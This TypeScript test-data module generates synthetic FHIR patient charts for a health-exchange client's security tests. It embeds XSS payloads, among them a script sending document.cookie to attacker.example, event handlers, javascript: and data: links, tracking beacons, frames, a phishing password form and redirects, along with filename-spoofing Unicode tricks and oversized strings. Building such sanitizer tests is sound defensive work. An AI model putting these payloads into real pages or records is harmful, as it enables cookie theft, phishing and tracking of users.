/**
 * The opt-in adversarial set (`--adversarial`): patients whose records carry what a hostile or
 * careless sender can put into an HIE, for the client's security tests. Narratives hold scripts,
 * event handlers, `javascript:` links, CSS `url()`, external images and frames; strings are huge;
 * names exercise Unicode edge cases. Every resource is tagged so tests can find it.
 */
import type { Coding, Resource } from '@medplum/fhirtypes';
import { atMinute, dateOnly, dayOffset } from './dates.ts';
import { narrative } from './documents.ts';
import { system } from './terminology.ts';

export const adversarialTag: Readonly<Coding> = {
  system: 'https://hie.relais.example.org/tags',
  code: 'adversarial',
  display: 'Adversarial test content',
};

export const adversarialPatientCount = 3;

/** Hostile XHTML fragments, each one a distinct attack the client's sanitizer must neutralise. */
export const hostileNarratives: readonly string[] = [
  '<p>Avant</p><script>window.__relaisPwned = true; fetch("https://attacker.example/steal?c=" + document.cookie)</script><p>Après</p>',
  '<img src="x" onerror="window.__relaisPwned = true" alt="broken"/><p onclick="window.__relaisPwned = true" onmouseover="window.__relaisPwned = true">Survolez-moi</p>',
  '<a href="javascript:window.__relaisPwned=true">Voir le résultat</a> <a href="JaVaScRiPt:alert(1)">mixed case</a> <a href="&#106;avascript:alert(1)">entity</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data URL</a>',
  '<div style="background-image: url(\'https://attacker.example/track.png\')">Fond</div><style>body { background: url(https://attacker.example/css-beacon) }</style><p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>',
  '<img src="https://attacker.example/pixel.gif" alt="Radiographie"/><iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.svg"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__relaisPwned = true</script><a href="javascript:alert(1)"><text>SVG</text></a></svg><form action="https://attacker.example/phish"><input name="password"/></form>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/"/><base href="https://attacker.example/"/><link rel="stylesheet" href="https://attacker.example/x.css"/><p>Redirections</p>',
];

/** Names that break naive string handling. */
export const hostileNames: readonly Readonly<{ family: string; given: readonly string[] }>[] = [
  // NFD accents (must compare equal to NFC Hélène after normalisation), a zero-width joiner,
  // a right-to-left override that flips what follows.
  { family: 'Le\u0301ve\u0302que\u200D', given: ['He\u0301le\u0300ne', '\u202Eeniréné'] },
  // Astral-plane letters, an emoji ZWJ sequence, combining marks stacked high.
  { family: '𝕯𝖚𝖕𝖔𝖓𝖙 👩‍👩‍👧‍👦', given: ['Z̷̢̛̗̮̻͎a̶l̸g̴o̷', 'Ελένη'] },
  // A 10 000-character family name, mixed scripts and look-alike Cyrillic letters.
  { family: 'Ва'.repeat(5) + 'x'.repeat(9990), given: ['Неlène', '王秀英', 'İıIi ß'] },
];

const hugeString = (length: number): string => {
  const unit = 'Résultat très long — ';
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
};

function tagged<T extends Resource>(resource: T): T {
  return { ...resource, meta: { tag: [{ ...adversarialTag }] } };
}

export type AdversarialOptions = Readonly<{
  index: number;
  patientId: string;
  ids: () => string;
  referenceMs: number;
  practitionerId: string;
  organizationId: string;
}>;

export function generateAdversarialChart(options: AdversarialOptions): Resource[] {
  const name = hostileNames[options.index % hostileNames.length] ?? hostileNames[0];
  const patientRef = { reference: `Patient/${options.patientId}` };
  const author = { reference: `Practitioner/${options.practitionerId}` };
  const when = atMinute(dayOffset(options.referenceMs, -3), 600);
  const fragments = hostileNarratives;
  const resources: Resource[] = [
    tagged({
      resourceType: 'Patient',
      id: options.patientId,
      active: true,
      name: [{ use: 'official', family: name?.family ?? 'X', given: [...(name?.given ?? [])] }],
      gender: 'unknown',
      birthDate: dateOnly(dayOffset(options.referenceMs, -365 * 40)),
      text: narrative(fragments[options.index % fragments.length] ?? ''),
      generalPractitioner: [author],
      managingOrganization: { reference: `Organization/${options.organizationId}` },
    }),
    tagged({
      resourceType: 'Composition',
      id: options.ids(),
      status: 'final',
      type: { coding: [{ system: system.loinc, code: '60591-5', display: 'Patient summary Document' }] },
      subject: patientRef,
      date: when,
      author: [author],
      title: '<script>alert("title")</script> Synthèse',
      text: narrative(fragments.join('<hr/>')),
      section: fragments.map((fragment, i) => ({ title: `Section ${i + 1} \u202Egnp.exe`, text: narrative(fragment) })),
    }),
    tagged({
      resourceType: 'DocumentReference',
      id: options.ids(),
      status: 'current',
      type: { coding: [{ system: system.loinc, code: '11506-3', display: 'Progress note' }] },
      subject: patientRef,
      date: when,
      author: [author],
      description: 'Compte rendu piégé',
      text: narrative(fragments[(options.index + 1) % fragments.length] ?? ''),
      content: [{
        attachment: {
          contentType: 'text/html',
          data: Buffer.from(`<html><body>${fragments.join('')}</body></html>`, 'utf8').toString('base64'),
          title: 'note.html',
        },
      }, {
        attachment: { contentType: 'image/png', url: 'https://attacker.example/scan.png', title: 'External scan' },
      }],
    }),
    tagged({
      resourceType: 'Observation',
      id: options.ids(),
      status: 'final',
      code: { coding: [{ system: system.loinc, code: '11506-3', display: 'Progress note' }], text: 'Note libre énorme' },
      subject: patientRef,
      effectiveDateTime: when,
      // A FHIR string may hold up to 1 MB (R4 §2.24.0.1, string); this one is just under.
      valueString: hugeString(1_000_000),
    }),
    tagged({
      resourceType: 'Condition',
      id: options.ids(),
      clinicalStatus: { coding: [{ system: system.conditionClinical, code: 'active' }] },
      code: { text: 'Diabète <b>non</b> équilibré \u0000\uFEFF\uFFFD \u202Eesrever' },
      subject: patientRef,
      note: [{ text: '[cliquez ici](javascript:alert(1)) <img src=x onerror=alert(1)>' }],
    }),
  ];
  return resources;
}
